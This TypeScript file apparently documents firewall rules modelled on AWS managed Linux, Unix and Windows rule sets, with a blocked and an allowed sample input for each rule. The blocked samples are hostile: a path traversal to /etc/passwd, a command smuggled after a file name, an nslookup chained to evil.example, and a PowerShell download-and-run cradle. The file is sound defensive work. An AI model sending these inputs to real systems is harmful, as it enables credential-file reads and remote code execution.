import type { DocumentedRule } from "./documented-rule.ts";
import { BODY, COOKIE, HEADER, QUERY_ARGUMENTS, QUERY_STRING, URI_PATH } from "./parts.ts";
import { signatureRules } from "./rule-builders.ts";
import { SIGNATURES } from "./signatures.ts";

/** AWSManagedRulesLinuxRuleSet. */
export const LINUX_RULES: readonly DocumentedRule[] = signatureRules(
  {
    prefix: "LFI",
    attack: "Reads files that every Linux has, or runs functions that a variable brings (Shellshock).",
    stops: "../../etc/passwd",
    allows: "sketch/passwords-etc",
  },
  SIGNATURES.linuxFile,
  [
    [URI_PATH, "LFI_URIPath"],
    [QUERY_STRING, "LFI_QueryString"],
    [HEADER, "LFI_Header"],
  ],
);

/** AWSManagedRulesUnixRuleSet. */
export const UNIX_RULES: readonly DocumentedRule[] = signatureRules(
  {
    prefix: "UNIXShellCommandsVariables",
    attack: "Runs a command of its own: after the one that the value is put into, or through an interpreter.",
    stops: "a.png; cat /etc/passwd",
    allows: "a cat; find my cat (or ls)",
  },
  SIGNATURES.unixCommand,
  [
    [QUERY_ARGUMENTS, "UNIXShellCommandsVariables_QUERYARGUMENTS"],
    [BODY, "UNIXShellCommandsVariables_BODY"],
  ],
);

/** AWSManagedRulesWindowsRuleSet. */
export const WINDOWS_RULES: readonly DocumentedRule[] = [
  ...signatureRules(
    {
      prefix: "WindowsShellCommands",
      attack: "Runs a command of Windows after the one that the value is put into.",
      stops: "x||nslookup evil.example",
      allows: "what type; dir or net?",
    },
    SIGNATURES.windowsCommand,
    [
      [COOKIE, "WindowsShellCommands_Cookie"],
      [QUERY_ARGUMENTS, "WindowsShellCommands_QueryArguments"],
      [BODY, "WindowsShellCommands_Body"],
    ],
  ),
  ...signatureRules(
    {
      prefix: "PowerShellCommands",
      attack: "Runs PowerShell.",
      stops: "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
      allows: "learn PowerShell: invoke a new object",
    },
    SIGNATURES.powerShell,
    [
      [COOKIE, "PowerShellCommands_Cookie"],
      [QUERY_ARGUMENTS, "PowerShellCommands_QueryArguments"],
      [BODY, "PowerShellCommands_Body"],
    ],
  ),
];
